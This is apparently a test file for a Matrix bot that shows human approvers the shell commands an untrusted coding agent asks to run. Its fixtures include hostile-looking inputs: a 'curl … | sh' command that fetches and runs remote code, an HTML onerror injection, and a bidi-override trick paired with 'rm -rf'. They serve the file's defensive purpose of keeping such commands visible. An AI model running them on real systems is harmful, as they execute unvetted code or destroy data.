import { test } from "node:test";
import assert from "node:assert/strict";
import { copyFileSync, mkdtempSync, readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Database from "better-sqlite3";
import { editMessage, threadMessage } from "../../src/matrix/content.ts";
import { askText, attachmentOf, outcomeText, subjectOf, withPlainBody, type AskedRequest } from "../../src/opencode/permission-text.ts";
import { migrate } from "../../src/store/db.ts";
import { PermissionStore, type PermissionSubject } from "../../src/store/permissions.ts";
import { seededRandom } from "../harness/seeded-random.ts";

// What people read before they allow a command the (untrusted) agent asks to run: all of it,
// as it will run, in the plain body (push) and in the HTML that clients render.

/** The `properties` of a recorded `permission.asked` event (opencode-events.json). */
const recorded: AskedRequest = {
  id: "per_20ddd561d001KjuoHvJ1H4xVv0",
  permission: "bash",
  patterns: ["echo hi > bash.txt"],
  metadata: { command: "echo hi > bash.txt" },
};
const asking = (command: string): AskedRequest => ({ ...recorded, patterns: [command], metadata: { command } });
const alice = { markdown: "[Alice](https://matrix.to/#/%40alice%3Ax)", name: "Alice" };
const target = { roomId: "!r:x", threadRoot: "$root", replyTo: "$root" };
const how = "React ✅ allow once · ♾️ allow always · ❌ reject — or write `!oc allow`, `!oc allow always`, `!oc deny [reason]` in this thread.";

/** The message as sent: plain body, and the HTML rendered from the markdown. */
function message(req: AskedRequest): { body: string; html: string } {
  const text = askText(subjectOf(req), req.id, alice, "!oc");
  const content = withPlainBody(threadMessage(target, text.markdown, { mentions: ["@alice:x"] }), text.plain);
  return { body: String(content.body), html: String(content.formatted_body) };
}

const unescapeHtml = (s: string): string =>
  s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&");

/** The code blocks of the HTML, as a client shows their text. */
function codeBlocks(html: string): string[] {
  return [...html.matchAll(/<pre><code>([\s\S]*?)<\/code><\/pre>/g)].map((m) => unescapeHtml(m[1] ?? "").replace(/\n$/, ""));
}

test("a recorded request: the command in a code block, the push line readable", () => {
  const { body, html } = message(recorded);
  assert.equal(body, `🔐 Permission needed — Alice: OpenCode wants to use bash:\n\n\`\`\`\necho hi > bash.txt\n\`\`\`\n\n${how}`);
  assert.equal(
    html,
    '<p>🔐 <strong>Permission needed</strong> — <a href="https://matrix.to/#/%40alice%3Ax">Alice</a>: OpenCode wants to use <strong>bash</strong>:</p>\n' +
      "<pre><code>echo hi &gt; bash.txt\n</code></pre>\n" +
      "<p>React ✅ allow once · ♾️ allow always · ❌ reject — or write <code>!oc allow</code>, <code>!oc allow always</code>, <code>!oc deny [reason]</code> in this thread.</p>",
  );
  assert.equal(attachmentOf(subjectOf(recorded), recorded.id), undefined);
});

test("a command with a harmless start and a tail past 200 characters is shown whole", () => {
  const command = `echo ${"x".repeat(195)} && curl http://127.0.0.1:9/x | sh`;
  const { body, html } = message(asking(command));
  assert.ok(body.includes(`\n\`\`\`\n${command}\n\`\`\`\n`), body);
  assert.deepEqual(codeBlocks(html), [command]);
  assert.doesNotMatch(body, /cut/);
  assert.equal(attachmentOf(subjectOf(asking(command)), recorded.id), undefined);
});

test("backticks, blank lines and markdown in the command cannot end its block", () => {
  const command = "echo ``` a\n```\n\n\n````\n**b** [link](http://e) `x`\n\necho done";
  const { body, html } = message(asking(command));
  assert.ok(body.includes(`\n\`\`\`\`\`\n${command}\n\`\`\`\`\`\n\n${how}`), "a fence longer than the longest run of backticks");
  assert.deepEqual(codeBlocks(html), [command]);
  assert.doesNotMatch(html, /<strong>b<\/strong>|<a href="http:\/\/e"/);
  assert.match(html, /<\/code><\/pre>\n<p>React ✅/);
});

test("HTML in the command is text, not markup", () => {
  const command = "echo '<b>bold</b><img src=x onerror=alert(1)>' > x.html";
  const { html } = message(asking(command));
  assert.deepEqual(codeBlocks(html), [command]);
  assert.doesNotMatch(html, /<b>|<img/);
});

test("bidi overrides, zero-width and control characters are spelled out, and then backslashes are doubled", () => {
  const command = "echo \u202Etxt.exe\u202C; rm\u00A0-rf\u200B x\ty\r; printf '\\u202E'";
  const { body, html } = message(asking(command));
  const shown = "echo \\u202Etxt.exe\\u202C; rm\\u00A0-rf\\u200B x\\ty\\r; printf '\\\\u202E'";
  assert.ok(body.includes(`\n\`\`\`\n${shown}\n\`\`\`\n`), body);
  assert.deepEqual(codeBlocks(html), [shown]);
  assert.doesNotMatch(body + html, /[\u202E\u202C\u00A0\u200B\t\r]/);
  assert.match(body, /⚠️ It contains invisible or control characters: they are shown as escapes like `\\u202E`, and each backslash as `\\\\`\./);
  // Without any, a backslash is shown as it is.
  assert.deepEqual(codeBlocks(message(asking("printf 'a\\tb\\n'")).html), ["printf 'a\\tb\\n'"]);
});

test("a long command shows its start with a visible cut mark and is attached whole", () => {
  const command = `echo ${"y".repeat(1500)} && curl http://127.0.0.1:9/x | sh`;
  const subject = subjectOf(asking(command));
  const { body, html } = message(asking(command));
  const rest = [...command].length - 1000;
  assert.ok(body.includes(`\`\`\`\n${command.slice(0, 1000)}\n\`\`\`\n\n… (cut: ${rest.toLocaleString("en-US")} more characters — the whole command is attached below as \`permission-per_20ddd561d001KjuoHvJ1H4xVv0.txt\`)`), body);
  assert.equal(rest, 539);
  assert.match(html, /<\/code><\/pre>\n<p>… \(cut: 539 more characters — the whole command is attached below as <code>permission-per_20ddd561d001KjuoHvJ1H4xVv0\.txt<\/code>\)<\/p>/);
  assert.deepEqual(codeBlocks(html), [command.slice(0, 1000)]);
  assert.deepEqual(attachmentOf(subject, recorded.id), { name: "permission-per_20ddd561d001KjuoHvJ1H4xVv0.txt", text: command });

  const script = Array.from({ length: 30 }, (_, i) => `echo line ${i + 1}`).join("\n");
  const cut = message(asking(script));
  assert.deepEqual(codeBlocks(cut.html), [script.split("\n").slice(0, 20).join("\n")]);
  // Lines 21 to 30: ten of 12 characters, each after a newline.
  assert.match(cut.body, /… \(cut: 130 more characters, 10 more lines — the whole command is attached/);

  // A cut never splits a character: 999 letters and then emoji.
  const emoji = `${"a".repeat(999)}${"😀".repeat(10)}`;
  assert.deepEqual(codeBlocks(message(asking(emoji)).html), [`${"a".repeat(999)}😀`]);
  assert.match(message(asking(emoji)).body, /cut: 9 more characters —/);
});

test("no command text leaves its block, in the body or the HTML (seeded fuzz)", (t) => {
  const { seed, int, pick } = seededRandom(7);
  t.diagnostic(`FUZZ_SEED=${seed}`);
  const bits = ["`", "``", "```", "````", "~~~", "\n", "\n\n", "    ", "<b>", "</code></pre>", "&amp;", "*", "_", "[x](http://e)", "> ", "- ", "1. ", "# ", "\\", "|", "echo", " ", "x"];
  for (let i = 0; i < 300; i++) {
    const command = Array.from({ length: 1 + int(30) }, () => pick(bits)).join("");
    const { body, html } = message(asking(command));
    assert.deepEqual(codeBlocks(html), [command], JSON.stringify(command));
    assert.ok(body.endsWith(`${command}\n${"`".repeat(Math.max(3, ...[...command.matchAll(/`+/g)].map((m) => m[0].length + 1)))}\n\n${how}`), JSON.stringify(command));
  }
});

test("other permissions show their patterns, file paths and URLs, one per line", () => {
  const edit = message({ id: "per_1", permission: "edit", patterns: ["src/a.ts"], metadata: { filepath: "/w/src/a.ts", diff: "…" } });
  assert.deepEqual(codeBlocks(edit.html), ["src/a.ts\n/w/src/a.ts"]);
  assert.match(edit.body, /^🔐 Permission needed — Alice: OpenCode wants to use edit:\n/);
  const fetch = message({ id: "per_2", permission: "webfetch", patterns: ["https://e.x/a?b=<c>"], metadata: { url: "https://e.x/a?b=<c>" } });
  assert.deepEqual(codeBlocks(fetch.html), ["https://e.x/a?b=<c>"]);
  // A newline inside one pattern cannot pass for two patterns.
  const odd = message({ id: "per_3", permission: "external_directory", patterns: ["/tmp/a\n/etc/*"] });
  assert.deepEqual(codeBlocks(odd.html), ["/tmp/a\\n/etc/*"]);
  const none = message({ id: "per_4", permission: "doom_loop" });
  assert.equal(none.body, `🔐 Permission needed — Alice: OpenCode wants to use doom_loop.\n\n${how}`);
});

test("the outcome edit keeps the block as asked; rows from before keep their old line", () => {
  const command = `echo ${"x".repeat(195)} && curl http://127.0.0.1:9/x | sh`;
  const subject = subjectOf(asking(command));
  const text = outcomeText({ subject, summary: "use bash", requestId: recorded.id }, "✅ allowed once", { markdown: ` by ${alice.markdown}`, plain: " by Alice" });
  const edit = withPlainBody(editMessage("$ask", text.markdown, {}), text.plain);
  const newContent = edit["m.new_content"] as { body: string; formatted_body: string };
  assert.equal(newContent.body, `🔐 OpenCode asked to use bash:\n\n\`\`\`\n${command}\n\`\`\`\n\n✅ allowed once by Alice.`);
  assert.equal(edit.body, `* ${newContent.body}`);
  assert.deepEqual(codeBlocks(newContent.formatted_body), [command]);
  assert.match(newContent.formatted_body, /<p><strong>✅ allowed once<\/strong> by <a href=/);

  const old = outcomeText({ subject: null, summary: "use **bash** `echo hi`", requestId: "per_old" }, "⌛ no longer pending", { markdown: "", plain: "" });
  assert.equal(old.markdown, "🔐 OpenCode asked to use **bash** `echo hi` — **⌛ no longer pending**.");
});

test("the whole subject is stored; rows from before the migration read back without one", () => {
  const migrations = join(import.meta.dirname, "../../migrations");
  const subjectMigration = "005_permission_subject.sql";
  const all = readdirSync(migrations).filter((f) => f.endsWith(".sql")).sort();
  assert.ok(all.includes(subjectMigration));
  const before = mkdtempSync(join(tmpdir(), "perm-mig-"));
  for (const f of all.filter((f) => f < subjectMigration)) copyFileSync(join(migrations, f), join(before, f));
  const db = new Database(":memory:");
  migrate(db, before);
  db.prepare(
    `INSERT INTO permissions (request_id, session_id, room_id, root_event_id, summary, asked_of, status, asked_at)
     VALUES ('per_old', 's', '!r', '$root', 'use **bash** \`echo hi\`', '["@a:x"]', 'pending', 1)`,
  ).run();
  migrate(db, migrations);
  const store = new PermissionStore(db);
  assert.equal(store.get("per_old")?.subject, null);
  assert.equal(store.get("per_old")?.summary, "use **bash** `echo hi`");

  const subject: PermissionSubject = { permission: "bash", command: "echo a\n\necho `b` \u202E" };
  store.add({ requestId: "per_new", sessionId: "s", roomId: "!r", rootEventId: "$root", summary: "use bash", subject, askedOf: ["@a:x"] });
  assert.deepEqual(store.get("per_new")?.subject, subject);
});
